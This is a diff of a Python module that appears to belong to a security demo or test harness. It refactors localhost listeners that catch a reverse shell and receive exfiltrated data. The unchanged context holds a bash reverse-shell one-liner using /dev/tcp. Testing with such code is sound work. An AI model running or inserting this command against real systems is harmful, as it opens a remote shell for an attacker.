@@ -14,9 +14,7 @@ from __future__ import annotations
 
 import re
 import shutil
-import socket
 import subprocess
-import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -56,61 +54,38 @@ def reverse_shell_command(port: int) -> str:
     return f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
 
 
-class ShellCatcher:
-    """The attacker's listener for a reverse shell: sends `id` and `exit`; the attack
-    worked when a uid came back."""
+class ExfilListener:
+    """The attacker's listener on 127.0.0.1: accepts one connection, sends `commands`
+    (none: it only receives, as for the in-thread attack's outbound connect) and keeps
+    what comes back (the demo's reverse-shell listener)."""
 
-    def __init__(self, timeout: float = 10.0) -> None:
-        self.listener = ReverseShellListener(["id", "exit"], timeout=timeout)
+    def __init__(self, commands: tuple[str, ...] = (), timeout: float = 10.0) -> None:
+        self.listener = ReverseShellListener(list(commands), timeout=timeout)
         self.port = self.listener.port
 
-    def __enter__(self) -> ShellCatcher:
+    def __enter__(self) -> ExfilListener:
         self.listener.start()
         return self
 
     def __exit__(self, *exc: object) -> None:
         self.listener.sock.close()
 
-    def result(self) -> tuple[bool, str]:
+    def wait(self) -> bytes:
+        """What the connection sent, once it closed (or the timeout passed)."""
         self.listener.wait()
-        text = self.listener.transcript.decode(errors="replace")
-        return "uid=" in text, " ".join(text.split())[-160:] or "no shell connected"
+        return self.listener.transcript
 
 
-class ExfilListener:
-    """Accepts one connection on 127.0.0.1 and keeps what it sends (the in-thread
-    attack's outbound connect)."""
+class ShellCatcher(ExfilListener):
+    """The listener for a reverse shell: sends `id` and `exit`; the attack worked when a
+    uid came back."""
 
     def __init__(self, timeout: float = 10.0) -> None:
-        self.sock = socket.create_server(("127.0.0.1", 0))
-        self.sock.settimeout(timeout)
-        self.port: int = self.sock.getsockname()[1]
-        self.received = b""
-        self._thread = threading.Thread(target=self._serve, daemon=True, name="sg-exfil")
+        super().__init__(("id", "exit"), timeout)
 
-    def __enter__(self) -> ExfilListener:
-        self._thread.start()
-        return self
-
-    def __exit__(self, *exc: object) -> None:
-        self.sock.close()
-
-    def _serve(self) -> None:
-        try:
-            conn, _ = self.sock.accept()
-        except OSError:
-            return
-        with conn:
-            conn.settimeout(5)
-            try:
-                while chunk := conn.recv(65536):
-                    self.received += chunk
-            except OSError:
-                pass
-
-    def wait(self, timeout: float = 10.0) -> bytes:
-        self._thread.join(timeout)
-        return self.received
+    def result(self) -> tuple[bool, str]:
+        text = self.wait().decode(errors="replace")
+        return "uid=" in text, " ".join(text.split())[-160:] or "no shell connected"
 
 
 @dataclass
